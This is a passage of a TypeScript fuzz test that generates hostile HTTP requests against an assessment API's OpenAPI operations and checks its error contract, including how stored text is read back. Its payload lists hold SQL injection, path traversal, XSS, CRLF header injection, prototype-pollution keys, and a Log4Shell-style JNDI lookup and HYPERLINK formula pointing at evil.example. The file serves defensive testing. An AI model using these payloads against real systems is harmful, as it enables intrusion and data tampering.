/**
 * Hostile input, generated. For every operation in openapi/openapi.json, fast-check builds
 * requests from the document's own schemas and then breaks them: wrong types, unknown and
 * prototype-polluting keys, oversized and deeply nested values, unicode edge cases (lone
 * surrogates, NUL, bidi marks, emoji), SQL/path/template/header injection shapes, malformed
 * percent-encoding, odd Content-Type/Accept/If-Match/Idempotency-Key headers, as callers of
 * every role. A second property does the same on paths and methods that do not exist.
 *
 * The oracle is the service's error contract (README, "The API at a glance"): never a 5xx; every
 * 4xx is problem+json with type/title/status/detail/instance and no stack trace; and a refused
 * request leaves the database exactly as it was.
 *
 * Seeds: fast-check picks a new seed each run and prints it on failure; replay a failure with
 * FUZZ_SEED=<seed> (and FUZZ_PATH=<path> it prints). FUZZ_RUNS scales the number of requests.
 */
import { rmSync } from 'node:fs';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/app.ts';
import { testConfig } from '../../src/config.ts';
import { controlCharacterIn, hasLoneSurrogate, hasVisibleText } from '../../src/lib/text.ts';
import { allQuestions, migof } from '../fixtures.ts';
import { pinnedToFirstEdition, signToken, type TestContext, tempDir } from '../helper.ts';
import {
  Builder,
  contractViolation,
  deref,
  describeReply,
  fillPath,
  fingerprint,
  type Headers,
  isOverloaded,
  loadSpec,
  type OpenApiSchema,
  type Operation,
  operationsOf,
  pause,
  tolerateOverload,
} from './support.ts';

const spec = loadSpec();
const operations = operationsOf(spec);
const questions = allQuestions(migof());
const QUESTION_KEYS = questions.map((q) => q.key);
const OPTION_VALUES = [...new Set(questions.flatMap((q) => q.options?.map((o) => o.value) ?? []))];

const SCALE = Number(process.env.FUZZ_RUNS ?? 1);
const RUNS_PER_OPERATION = Math.max(1, Math.round(180 * SCALE));
const RUNS_UNROUTED = Math.max(1, Math.round(600 * SCALE));
const SEED = process.env.FUZZ_SEED === undefined ? undefined : Number(process.env.FUZZ_SEED);
const PATH = process.env.FUZZ_PATH;

// ---------------------------------------------------------------------------------------------
// Hostile building blocks

const NASTY_STRINGS = [
  '',
  ' ',
  '\u0000',
  'P1.1.1\u0000',
  'KEN\u0000',
  '\ud800',
  '\udfff',
  'a\udc00\ud800b',
  '\u202eNEK',
  '\u200f\u200e',
  '\u200b',
  '\ufeff',
  '\uffff',
  '👨‍👩‍👧‍👦',
  '🇰🇪',
  'ｋｅｎ',
  'İı',
  "' OR '1'='1",
  "'; DROP TABLE assessments; --",
  '" OR 1=1 --',
  "') UNION SELECT sqlite_version(), 1 --",
  '1; ATTACH DATABASE "/tmp/x" AS x',
  '../../../../etc/passwd',
  '..\\..\\..\\windows\\win.ini',
  '%2e%2e%2f%2e%2e%2f',
  'file:///etc/passwd',
  'javascript:alert(1)',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '<script>alert(1)</script>',
  '"><svg onload=alert(1)>',
  ']]></text><script>x</script>',
  '{{7*7}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template-injection payloads, meant literally
  '${7*7}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: as above (Log4Shell shape)
  '${jndi:ldap://evil.example/a}',
  '=HYPERLINK("http://evil.example")',
  '+1',
  '@SUM(1)',
  '\r\nSet-Cookie: session=1',
  'a\r\nX-Injected: 1',
  '\n',
  '\t',
  'null',
  'undefined',
  'NaN',
  'Infinity',
  '-0',
  '1e309',
  '0x10',
  'true',
  '[]',
  '{}',
  '*',
  'W/"r1"',
  '"r1"',
  '"r99999999999999999999999"',
  'A'.repeat(10_000),
  '€'.repeat(3000),
  '\ud800'.repeat(500),
  '😀'.repeat(2000),
];

const utf16Unit = fc.integer({ min: 0, max: 0xffff }).map((c) => String.fromCharCode(c));

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: fc.constantFrom(...NASTY_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: utf16Unit, maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.constantFrom('a', '€', '\u0000', '😀', '\ud800', '%'), fc.integer({ min: 100, max: 60_000 }))
      .map(([c, n]) => c.repeat(n)),
  },
);

const hostileKey = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '__proto__',
      'constructor',
      'prototype',
      'status',
      'country',
      'score',
      'revision',
      'id',
      'createdBy',
      'answeredBy',
      'answers',
      'question',
      'value',
      'notApplicable',
      '',
      '\u0000',
      '$where',
      'a.b',
      '0',
    ),
  },
  { weight: 1, arbitrary: hostileString },
);

const hostilePrimitive: fc.Arbitrary<unknown> = fc.oneof(
  hostileString,
  fc.double(),
  fc.integer(),
  fc.constantFrom(0, -0, 1e308, -1e308, 5e-324, 2 ** 53 + 1, -1, 1e12, 1e12 + 1, true, false, null),
);

/** An object whose keys are own properties even when they are `__proto__`. */
const objectOf = (entries: [string, unknown][]) => {
  const object: Record<string, unknown> = {};
  for (const [key, value] of entries) {
    Object.defineProperty(object, key, { value, enumerable: true, writable: true, configurable: true });
  }
  return object;
};

const { hostileJson } = fc.letrec<{ hostileJson: unknown }>((tie) => ({
  hostileJson: fc.oneof(
    { depthSize: 'small', maxDepth: 4 },
    hostilePrimitive,
    fc.array(tie('hostileJson'), { maxLength: 5 }),
    fc.array(fc.tuple(hostileKey, tie('hostileJson')), { maxLength: 5 }).map(objectOf),
  ),
}));

/** Bodies that are not JSON, or JSON no parser should have to trust. */
const rawBody: fc.Arbitrary<string | Buffer> = fc.oneof(
  fc.constantFrom(
    '{',
    '{"answers":',
    '[',
    ']',
    'null',
    '""',
    '0',
    'NaN',
    '\ufeff{}',
    '{"answers":[],"answers":[{"question":"P1.1.1","value":"yes"}]}',
    '{"answers":[]}garbage',
    '{"answers":[{"question":"P1.1.1","value":1e999}]}',
    '{"answers":[{"question":"P1.1.1","value":-1e999}]}',
    '{"__proto__":{"status":"validated"}}',
    '{"constructor":{"prototype":{"status":"validated"}}}',
    '{"answers":[{"question":"P1.1.1","value":"yes","__proto__":{"notApplicable":true}}]}',
    "{'answers': []}",
    '{"answers":[{"question":"P1.1.1","value":"\\ud800"}]}',
    '{"reason":"\\u0000"}',
    '{"country":"KEN","period":"2026"',
    'country=KEN&period=2026',
    '<xml/>',
  ),
  fc.integer({ min: 1, max: 150_000 }).map((n) => `{"answers":${'['.repeat(n)}${']'.repeat(n)}}`),
  fc.integer({ min: 1, max: 50_000 }).map((n) => `${'{"a":'.repeat(n)}1${'}'.repeat(n)}`),
  fc.constantFrom(
    Buffer.from('{"reason":"x"}', 'utf16le'),
    Buffer.from([0x7b, 0x22, 0x72, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0xc0, 0xaf, 0x22, 0x7d]),
    Buffer.from([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
    Buffer.alloc(2048),
  ),
  hostileString,
);

/**
 * What a header value looks like once it crossed the wire: the UTF-8 bytes read as latin1,
 * without the control characters Node's HTTP parser would refuse before the app sees them.
 */
const headerSafe = (value: string) =>
  Buffer.from(value, 'utf8')
    .toString('latin1')
    // biome-ignore lint/suspicious/noControlCharactersInRegex: removing exactly those characters
    .replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, '')
    .slice(0, 8000);

/** Percent-encodes every byte outside RFC 3986's unreserved set (lone surrogates become U+FFFD). */
const BYTE_ENCODING = Array.from({ length: 256 }, (_, b) =>
  /[A-Za-z0-9\-._~]/.test(String.fromCharCode(b))
    ? String.fromCharCode(b)
    : `%${b.toString(16).toUpperCase().padStart(2, '0')}`,
);
const encode = (value: string) => {
  let out = '';
  for (const b of Buffer.from(value, 'utf8')) out += BYTE_ENCODING[b];
  return out;
};

const MALFORMED_SEGMENTS = [
  '%',
  '%zz',
  '%ED%A0%80',
  '%C0%AF',
  '%E0%A4%A',
  '%00',
  '..',
  '.',
  '%2e%2e',
  '%2F',
  'a%2Fb',
  ';x',
  '%25',
  '%u002e',
];

// ---------------------------------------------------------------------------------------------
// Valid values from the document's schemas, and mutations of them

/** Values the schema allows; property names steer towards what the service knows (real questions). */
function fromSchema(schema: OpenApiSchema, name?: string, depth = 0): fc.Arbitrary<unknown> {
  const s = deref(spec, schema);
  if (name === 'question')
    return fc.oneof(
      { weight: 5, arbitrary: fc.constantFrom(...QUESTION_KEYS) },
      fc.string({ maxLength: 20 }),
    );
  if (name === 'value' && s.anyOf) {
    return fc.oneof(
      fc.constantFrom(...OPTION_VALUES),
      fc.double({ min: -1e12, max: 1e12, noNaN: true }),
      fc.integer(),
    );
  }
  if (name === 'country')
    return fc.oneof({ weight: 4, arbitrary: fc.constantFrom('KEN', 'UGA') }, fc.stringMatching(/^[A-Z]{3}$/));
  if (s.enum) return fc.constantFrom(...s.enum);
  const alternatives = s.anyOf ?? s.oneOf;
  if (alternatives) return fc.oneof(...alternatives.map((a) => fromSchema(a, name, depth)));
  const type = Array.isArray(s.type) ? s.type[0] : s.type;
  switch (type) {
    case 'null':
      return fc.constant(null);
    case 'boolean':
      return fc.boolean();
    case 'integer':
      return fc.integer({ min: s.minimum ?? -1_000_000, max: s.maximum ?? 1_000_000 });
    case 'number':
      return fc.double({ min: s.minimum ?? -1e9, max: s.maximum ?? 1e9, noNaN: true });
    case 'string':
      if (s.pattern) return fc.stringMatching(new RegExp(s.pattern));
      if (s.format === 'uri') return fc.webUrl();
      return fc.string({ minLength: s.minLength ?? 0, maxLength: Math.min(s.maxLength ?? 40, 40) });
    case 'array':
      return fc.array(s.items ? fromSchema(s.items, undefined, depth + 1) : hostileJson, {
        minLength: s.minItems ?? 0,
        maxLength: Math.min(s.maxItems ?? 4, 4),
      });
    case 'object': {
      if (depth > 5) return fc.constant({});
      const properties = Object.entries(s.properties ?? {});
      return fc.record(
        Object.fromEntries(properties.map(([key, p]) => [key, fromSchema(p, key, depth + 1)])),
        {
          requiredKeys: s.required ?? [],
        },
      ) as fc.Arbitrary<unknown>;
    }
    default:
      return hostileJson;
  }
}

type Path = (string | number)[];

function nodesOf(value: unknown, path: Path = [], out: Path[] = []): Path[] {
  out.push(path);
  if (Array.isArray(value)) {
    for (const [i, item] of value.entries()) nodesOf(item, [...path, i], out);
  } else if (value && typeof value === 'object') {
    for (const key of Object.keys(value))
      nodesOf((value as Record<string, unknown>)[key], [...path, key], out);
  }
  return out;
}

function setAt(root: unknown, path: Path, replace: (old: unknown) => unknown): unknown {
  if (path.length === 0) return replace(root);
  const parent = path
    .slice(0, -1)
    .reduce<unknown>((node, key) => (node as Record<string, unknown>)[key], root);
  const last = path[path.length - 1] as string | number;
  Object.defineProperty(parent as object, last, {
    value: replace((parent as Record<string | number, unknown>)[last]),
    enumerable: true,
    writable: true,
    configurable: true,
  });
  return root;
}

const mutation = fc.record({
  op: fc.constantFrom('replace', 'replace', 'add', 'remove', 'wrap', 'grow', 'retype'),
  pick: fc.nat(),
  key: hostileKey,
  value: hostileJson,
  times: fc.integer({ min: 2, max: 700 }),
});

function mutate(valid: unknown, m: MutationValue) {
  // A deep copy that keeps own `__proto__` keys as data (JSON.parse defines them as own properties).
  const value = JSON.parse(JSON.stringify(valid) ?? 'null') as unknown;
  const nodes = nodesOf(value);
  const path = nodes[m.pick % nodes.length] as Path;
  switch (m.op) {
    case 'replace':
      return setAt(value, path, () => m.value);
    case 'retype':
      return setAt(value, path, (old) =>
        typeof old === 'string'
          ? Number(old) || [old]
          : typeof old === 'number'
            ? String(old)
            : Array.isArray(old)
              ? { ...old }
              : String(old),
      );
    case 'add': {
      const objects = nodes.filter((p) => {
        const node = p.reduce<unknown>((n, k) => (n as Record<string, unknown>)[k], value);
        return node && typeof node === 'object' && !Array.isArray(node);
      });
      if (!objects.length) return value;
      return setAt(value, objects[m.pick % objects.length] as Path, (node) =>
        Object.assign(objectOf([[m.key, m.value]]), node),
      );
    }
    case 'remove': {
      if (path.length === 0) return undefined;
      const parent = path.slice(0, -1).reduce<unknown>((n, k) => (n as Record<string, unknown>)[k], value);
      if (Array.isArray(parent)) parent.splice(path[path.length - 1] as number, 1);
      else delete (parent as Record<string, unknown>)[path[path.length - 1] as string];
      return value;
    }
    case 'wrap':
      return setAt(value, path, (old) => (m.pick % 2 ? [old] : { value: old }));
    case 'grow': {
      const arrays = nodes.filter((p) =>
        Array.isArray(p.reduce<unknown>((n, k) => (n as Record<string, unknown>)[k], value)),
      );
      if (!arrays.length) return value;
      return setAt(value, arrays[m.pick % arrays.length] as Path, (old) => {
        const items = old as unknown[];
        return Array.from({ length: m.times }, (_, i) => items[i % Math.max(items.length, 1)] ?? m.value);
      });
    }
  }
}
interface MutationValue {
  op: string;
  pick: number;
  key: string;
  value: unknown;
  times: number;
}

// ---------------------------------------------------------------------------------------------
// The world the requests run against

let ctx: TestContext;
let roleHeaders: Headers[] = [];
let badTokens: Headers[] = [];
let ids: string[] = [];
let requests = 0;
let serverErrors = 0;
let refusedWrites = 0;
let overloadRetries = 0;
const statuses = new Map<number, number>();

beforeAll(async () => {
  // Built without createTestApp's response-schema check: this file's oracle is the error
  // contract, which holds for requests the document does not describe too.
  const dataDir = tempDir('migov-fuzz-');
  const config = testConfig({ DATA_DIR: dataDir, RATE_LIMIT_PER_MINUTE: 1_000_000_000 });
  const app = await buildApp(config, pinnedToFirstEdition());
  await app.ready();
  const token = (claims: Parameters<typeof signToken>[1], options?: Parameters<typeof signToken>[2]) =>
    signToken(config, claims, options);
  ctx = {
    app,
    config,
    dataDir,
    token,
    auth: async (claims) => ({ authorization: `Bearer ${await token(claims)}` }),
  };
  afterAll(async () => {
    await app.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  const admin = await ctx.auth({ role: 'admin', sub: 'ada' });
  // The world is built through a tolerant inject; the fuzzed requests use check(), which
  // retries overload 503s itself and counts them.
  const setup = { ...ctx, app: Object.create(app) as typeof app };
  tolerateOverload(setup.app);
  const build = new Builder(setup, admin);
  const made = [
    await build.make('KEN', 'draft', 'full'),
    await build.make('KEN', 'draft'),
    await build.make('KEN', 'submitted'),
    await build.make('KEN', 'returned'),
    await build.make('KEN', 'validated'),
    await build.make('UGA', 'draft', 'full'),
    await build.make('UGA', 'submitted'),
  ];
  ids = made.map((m) => m.id);
  roleHeaders = [
    admin,
    await ctx.auth({ role: 'focal_point', country: 'KEN', sub: 'amina' }),
    await ctx.auth({ role: 'focal_point', country: 'UGA', sub: 'okello' }),
    await ctx.auth({ role: 'reviewer', sub: 'rita' }),
    await ctx.auth({ role: 'viewer', country: 'KEN', sub: 'vik' }),
    await ctx.auth({ role: 'viewer', sub: 'public' }),
  ];
  badTokens = [
    {
      authorization: `Bearer ${await token({ role: 'admin' }, { expiresIn: Math.floor(Date.now() / 1000) - 3600 })}`,
    },
    { authorization: `Bearer ${await token({ role: 'root', sub: 'x'.repeat(300) })}` },
  ];
});

afterAll(() => {
  const byStatus = Object.fromEntries([...statuses.entries()].sort(([a], [b]) => a - b));
  console.log(
    `fuzz: ${requests} requests, ${serverErrors} answered 5xx, ${refusedWrites} refused writes checked ` +
      `against the database, ${overloadRetries} retried after an overload 503; by status ${JSON.stringify(byStatus)}`,
  );
});

// ---------------------------------------------------------------------------------------------
// Requests

interface FuzzRequest {
  method: string;
  url: string;
  headers: Record<string, string>;
  payload?: string | Buffer;
}

const authorization = fc.oneof(
  { weight: 12, arbitrary: fc.nat().map((i) => roleHeaders[i % roleHeaders.length]?.authorization) },
  { weight: 1, arbitrary: fc.nat().map((i) => badTokens[i % badTokens.length]?.authorization) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 1, arbitrary: hostileString.map((s) => headerSafe(`Bearer ${s}`)) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(fc.nat(), hostileString)
      .map(([i, s]) => `${roleHeaders[i % roleHeaders.length]?.authorization ?? ''}${headerSafe(s)}`),
  },
);

const optionalHeader = (values: string[]) =>
  fc.option(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...values) }, hostileString.map(headerSafe)), {
    freq: 2,
  });

const CONTENT_TYPES = [
  'application/json',
  'application/json; charset=utf-8',
  'APPLICATION/JSON',
  'application/json; charset=latin1',
  'application/json; charset=utf-16',
  'application/json;;',
  'application/problem+json',
  'application/merge-patch+json',
  'text/plain',
  'text/json',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/xml',
  '',
  '*/*',
  'application/json, text/plain',
];

const headersArb = fc.record({
  authorization,
  'if-match': optionalHeader([
    '"r1"',
    '"r2"',
    '"r3"',
    '"r4"',
    '"r5"',
    '*',
    'W/"r1"',
    '"r1", "r2"',
    '',
    ' ',
    '"r0"',
  ]),
  'if-none-match': optionalHeader(['"r1-arithmetic"', '*', '"r5-geometric-csv"']),
  'idempotency-key': optionalHeader(['k', 'x'.repeat(201), 'same-key', '']),
  accept: optionalHeader([
    'text/csv',
    'application/json',
    'text/csv, application/json',
    'image/svg+xml',
    'application/xml',
    '*/*',
    'text/*;q=0.1',
    '',
  ]),
  'x-request-id': optionalHeader(['abc', '../../etc/passwd', 'x'.repeat(65)]),
  'accept-encoding': optionalHeader(['gzip', 'br', 'identity;q=0', '*;q=0']),
});

const pathValue = (name: string): fc.Arbitrary<string> => {
  const known: Record<string, () => fc.Arbitrary<string>> = {
    id: () =>
      fc.oneof({ weight: 6, arbitrary: fc.constantFrom(...ids) }, { weight: 1, arbitrary: fc.uuid() }),
    question: () => fc.constantFrom(...QUESTION_KEYS),
    key: () => fc.constant('migof'),
    version: () => fc.constant('1.0.0'),
    iso3: () => fc.constantFrom('KEN', 'UGA', 'ZZZ'),
    ministryId: () => fc.uuid(),
    commentId: () => fc.uuid(),
  };
  return fc.oneof(
    { weight: 6, arbitrary: (known[name] ?? (() => fc.constant('x')))() },
    { weight: 3, arbitrary: hostileString.map(encode) },
    { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_SEGMENTS) },
  );
};

const queryOf = (op: Operation): fc.Arbitrary<string> => {
  const declared = op.parameters.filter((p) => p.in === 'query');
  const params = declared.map((p) =>
    fc.option(
      fc
        .oneof(
          { weight: 3, arbitrary: fromSchema(p.schema).map(String) },
          { weight: 2, arbitrary: hostileString },
        )
        .map((v) => `${p.name}=${encode(v)}`),
      { freq: 4 },
    ),
  );
  const extras = fc.array(
    fc.tuple(hostileKey, hostileString).map(([k, v]) => `${encode(k)}=${encode(v)}`),
    { maxLength: 2 },
  );
  const raw = fc.option(
    fc.constantFrom(
      '&%',
      '&a=%zz',
      '&&&',
      '&=&',
      '&a[b][c]=1',
      '&__proto__[x]=1',
      '&constructor[prototype][x]=1',
      '&limit=1&limit=2',
      '&period=2026&period=2027',
    ),
    { freq: 5 },
  );
  return fc.tuple(fc.tuple(...params), extras, raw).map(([ps, ex, r]) => {
    const parts = [...ps.filter((p): p is string => p !== null), ...ex];
    const query = parts.join('&') + (r ?? '');
    return query ? `?${query}` : '';
  });
};

const bodyOf = (op: Operation): fc.Arbitrary<{ payload?: string | Buffer; contentType?: string }> => {
  const valid = op.body ? fromSchema(op.body) : fc.constant({});
  const json = fc
    .tuple(valid, fc.array(mutation, { maxLength: 2 }))
    .map(([v, ms]) => ms.reduce<unknown>((acc, m) => mutate(acc, m), v));
  const contentType = fc.oneof(
    { weight: 8, arbitrary: fc.constant('application/json') },
    { weight: 2, arbitrary: fc.constantFrom(...CONTENT_TYPES) },
  );
  return fc.oneof(
    {
      weight: op.body ? 8 : 1,
      arbitrary: fc
        .tuple(json, contentType)
        .map(([v, type]) => ({ payload: JSON.stringify(v) ?? '', contentType: type })),
    },
    {
      weight: 2,
      arbitrary: fc
        .tuple(hostileJson, contentType)
        .map(([v, type]) => ({ payload: JSON.stringify(v) ?? '', contentType: type })),
    },
    {
      weight: 2,
      arbitrary: fc.tuple(rawBody, contentType).map(([payload, type]) => ({ payload, contentType: type })),
    },
    { weight: op.body ? 1 : 4, arbitrary: fc.constant({}) },
  );
};

const requestFor = (op: Operation): fc.Arbitrary<FuzzRequest> => {
  const names = [...op.path.matchAll(/\{(\w+)\}/g)].map((m) => m[1] as string);
  return fc
    .tuple(fc.tuple(...names.map(pathValue)), queryOf(op), headersArb, bodyOf(op))
    .map(([values, query, headers, body]) => {
      const clean = Object.fromEntries(
        Object.entries(headers).filter(([, v]) => v !== null && v !== undefined),
      ) as Record<string, string>;
      if (body.contentType !== undefined && body.payload !== undefined)
        clean['content-type'] = body.contentType;
      return {
        method: op.method,
        url: fillPath(op.path, Object.fromEntries(names.map((n, i) => [n, values[i] as string]))) + query,
        headers: clean,
        ...(body.payload === undefined ? {} : { payload: body.payload }),
      };
    });
};

const SEGMENTS = [
  'v1',
  'assessments',
  'answers',
  'submit',
  'return',
  'validate',
  'history',
  'report',
  'report.svg',
  'frameworks',
  'migof',
  '1.0.0',
  'countries',
  'KEN',
  'trend',
  'indicators',
  'sdg-10-7-2',
  'me',
  'docs',
  'static',
  'json',
  'yaml',
  'index.html',
  'openapi.json',
  'healthz',
  'readyz',
  'admin',
  '.env',
  '..',
  '',
];

const unroutedRequest: fc.Arbitrary<FuzzRequest> = fc
  .tuple(
    fc.constantFrom(
      'GET',
      'POST',
      'PUT',
      'DELETE',
      'PATCH',
      'OPTIONS',
      'HEAD',
      'TRACE',
      'SEARCH',
      'PROPFIND',
    ),
    fc.array(
      fc.oneof(
        { weight: 6, arbitrary: fc.constantFrom(...SEGMENTS) },
        { weight: 2, arbitrary: fc.nat().map((i) => ids[i % ids.length] as string) },
        { weight: 2, arbitrary: hostileString.map(encode) },
        { weight: 1, arbitrary: fc.constantFrom(...MALFORMED_SEGMENTS) },
      ),
      { minLength: 0, maxLength: 6 },
    ),
    headersArb,
    fc.option(fc.tuple(rawBody, fc.constantFrom(...CONTENT_TYPES)), { freq: 3 }),
  )
  .map(([method, segments, headers, body]) => {
    const clean = Object.fromEntries(
      Object.entries(headers).filter(([, v]) => v !== null && v !== undefined),
    ) as Record<string, string>;
    if (body) clean['content-type'] = body[1];
    return { method, url: `/${segments.join('/')}`, headers: clean, ...(body ? { payload: body[0] } : {}) };
  });

// ---------------------------------------------------------------------------------------------
// The oracle

const shown = (request: FuzzRequest) => {
  const payload = request.payload === undefined ? '' : String(request.payload);
  return `${request.method} ${request.url.slice(0, 300)}\nheaders ${JSON.stringify(request.headers).slice(0, 600)}\nbody ${JSON.stringify(payload.slice(0, 400))}${payload.length > 400 ? ` …(${payload.length} chars)` : ''}`;
};

/**
 * CPU time one request may take: a hostile input that costs more is a denial of service.
 * process.cpuUsage counts every thread of the process (GC helpers, the JIT compiling a route
 * on first use), so the budget leaves room for that on a loaded two-core CI machine.
 */
const CPU_BUDGET_MS = 2000;

async function check(request: FuzzRequest): Promise<void> {
  const before = fingerprint(ctx);
  const send = async () => {
    const cpu = process.cpuUsage();
    const res = await ctx.app.inject({
      method: request.method as 'GET',
      url: request.url,
      headers: request.headers,
      ...(request.payload === undefined ? {} : { payload: request.payload }),
    });
    const used = process.cpuUsage(cpu);
    return { res, cpuMs: (used.user + used.system) / 1000 };
  };
  let { res, cpuMs } = await send();
  // @fastify/under-pressure answers 503 while the event loop has lagged over a second. The
  // app shares its loop with this test (and the machine with other jobs), so that can happen
  // under load without any request being at fault; wait it out and ask again. A request that
  // itself stalls the loop is caught by the CPU budget below instead.
  for (let attempt = 0; isOverloaded(res) && attempt < 40; attempt++) {
    overloadRetries += 1;
    expect(fingerprint(ctx), 'a 503 changed the database').toBe(before);
    await pause(250);
    ({ res, cpuMs } = await send());
  }
  requests += 1;
  statuses.set(res.statusCode, (statuses.get(res.statusCode) ?? 0) + 1);
  if (res.statusCode >= 500) serverErrors += 1;
  const where = () => `${shown(request)}\n-> ${describeReply(res)}`;
  if (cpuMs > CPU_BUDGET_MS) throw new Error(`one request took ${Math.round(cpuMs)} ms of CPU\n${where()}`);
  if (request.method === 'HEAD') {
    // No body to inspect; the status and the media type must still be right.
    expect(res.statusCode, where()).toBeLessThan(500);
    if (res.statusCode >= 400)
      expect(String(res.headers['content-type']), where()).toMatch(/^application\/problem\+json/);
  } else {
    const violation = contractViolation(res);
    if (violation) throw new Error(`${violation}\n${where()}`);
  }
  if (res.statusCode >= 400) {
    if (request.method !== 'GET' && request.method !== 'HEAD') refusedWrites += 1;
    const after = fingerprint(ctx);
    if (after !== before)
      throw new Error(`a refused request changed the database\n${before}\n${after}\n${where()}`);
  }
}

const options = (runs: number): fc.Parameters<[FuzzRequest]> => ({
  numRuns: runs,
  ...(SEED === undefined ? {} : { seed: SEED }),
  ...(PATH === undefined ? {} : { path: PATH }),
});

describe('hostile input against every operation in openapi/openapi.json', () => {
  it('has operations to fuzz', () => {
    expect(operations.length).toBeGreaterThanOrEqual(20);
  });

  it.each(operations.map((op) => [`${op.method} ${op.path}`, op] as const))(
    '%s: never 5xx, always problem+json, nothing written when refused',
    async (_name, op) => {
      await fc.assert(fc.asyncProperty(requestFor(op), check), options(RUNS_PER_OPERATION));
    },
    60_000,
  );

  it('on paths and methods that do not exist', async () => {
    await fc.assert(fc.asyncProperty(unroutedRequest, check), options(RUNS_UNROUTED));
  }, 60_000);

  it('answered every request without a server error', () => {
    expect(requests).toBeGreaterThanOrEqual(operations.length * RUNS_PER_OPERATION);
    expect(serverErrors).toBe(0);
  });
});

// ---------------------------------------------------------------------------------------------
// What was stored (issue 19): "no 5xx" alone let invisible evidence titles, text re-read in the
// wrong charset and lone surrogates through, because each was answered 200. These properties
// read back what the service kept and compare it with what was sent.

/** Characters that show nothing on their own. */
const INVISIBLE = [
  '\u200b',
  '\u200c',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202c',
  '\u2066',
  '\u2069',
  '\u180e',
  '\u3164',
  '\u115f',
  '\u034f',
  '\u0301',
  ' ',
  '\t',
  '\u00a0',
  '\u2003',
  '\u3000',
  '\u2028',
  '\u0000',
  '\u001f',
];
/** What windows-1252 (the WHATWG reading of iso-8859-1 and latin1) decodes to itself. */
const LATIN1 = [
  ...Array.from({ length: 0x5f }, (_, i) => String.fromCharCode(0x20 + i)),
  ...Array.from({ length: 0x60 }, (_, i) => String.fromCharCode(0xa0 + i)),
];

describe('what was stored, not only the status', () => {
  let draft = '';
  let admin: Headers = {};
  const question = questions.find((q) => q.type === 'yes_partial_no' && !q.enableWhen)?.key ?? '';

  beforeAll(async () => {
    admin = await ctx.auth({ role: 'admin', sub: 'ada' });
    const setup = { ...ctx, app: Object.create(ctx.app) as typeof ctx.app };
    tolerateOverload(setup.app);
    draft = (await new Builder(setup, admin).make('SEN', 'draft')).id;
  });

  const send = async (payload: string | Buffer, contentType = 'application/json') => {
    let res = await ctx.app.inject({
      method: 'PUT',
      url: `/v1/assessments/${draft}/answers`,
      headers: { ...admin, 'content-type': contentType },
      payload,
    });
    for (let attempt = 0; isOverloaded(res) && attempt < 40; attempt++) {
      await pause(250);
      res = await ctx.app.inject({
        method: 'PUT',
        url: `/v1/assessments/${draft}/answers`,
        headers: { ...admin, 'content-type': contentType },
        payload,
      });
    }
    return res;
  };

  /** The stored answer to `question`, and the state the history's last event says it was set to. */
  const stored = async () => {
    const answers = await ctx.app.inject({
      method: 'GET',
      url: `/v1/assessments/${draft}/answers`,
      headers: admin,
    });
    const history = await ctx.app.inject({
      method: 'GET',
      url: `/v1/assessments/${draft}/history?limit=1000&order=asc`,
      headers: admin,
    });
    const answer = (
      answers.json().answers as { question: string; comment: string | null; evidence: { title: string }[] }[]
    ).find((a) => a.question === question);
    const last = (
      history.json().events as { after: { comment: string | null; evidence: { title: string }[] } | null }[]
    ).at(-1);
    return { answer, last: last?.after };
  };

  it('an evidence title that shows nothing is refused, and every stored title shows something', async () => {
    const title = fc
      .tuple(
        fc.array(fc.constantFrom(...INVISIBLE), { minLength: 1, maxLength: 12 }),
        fc.option(fc.constantFrom('A', 'é', '法', '😀'), { freq: 2 }),
        fc.nat(),
      )
      .map(([chars, visible, at]) => {
        if (visible !== null) chars.splice(at % (chars.length + 1), 0, visible);
        return chars.join('');
      });
    await fc.assert(
      fc.asyncProperty(title, fc.integer({ min: 0, max: 1_000_000 }), async (t, n) => {
        const before = fingerprint(ctx);
        const res = await send(
          JSON.stringify({
            answers: [{ question, value: 'yes', comment: `run ${n}`, evidence: [{ title: t }] }],
          }),
        );
        const where = `${JSON.stringify(t)} -> ${describeReply(res)}`;
        expect(contractViolation(res), where).toBeNull();
        // A control character (NUL, U+001F) is refused whatever else the title shows.
        if (!hasVisibleText(t) || controlCharacterIn(t)) {
          expect(res.statusCode, where).toBe(400);
          expect(res.body, where).toContain('body.answers[0].evidence[0].title');
          expect(fingerprint(ctx), where).toBe(before);
          return;
        }
        expect(res.statusCode, where).toBe(200);
        const { answer, last } = await stored();
        expect(
          answer?.evidence.map((e) => e.title),
          where,
        ).toEqual([t.trim()]);
        expect(
          last?.evidence.map((e) => e.title),
          where,
        ).toEqual([t.trim()]);
        expect(
          answer?.evidence.every((e) => hasVisibleText(e.title)),
          where,
        ).toBe(true);
      }),
      options(Math.max(1, Math.round(80 * SCALE))) as never,
    );
  }, 60_000);

  it('text in a declared charset is stored as the text that was meant, the same in answers and history', async () => {
    const latin1Text = fc.string({ unit: fc.constantFrom(...LATIN1), minLength: 1, maxLength: 60 });
    const anyText = fc.string({ unit: 'grapheme', minLength: 1, maxLength: 40 });
    const body = fc.oneof(
      fc.tuple(
        fc.constantFrom('iso-8859-1', 'ISO-8859-1', 'latin1', '"iso-8859-1"', 'windows-1252', 'us-ascii'),
        latin1Text,
      ),
      fc.tuple(fc.constantFrom('utf-8', 'UTF-8', 'utf8', '"utf-8"', 'utf-16le', 'utf-16'), anyText),
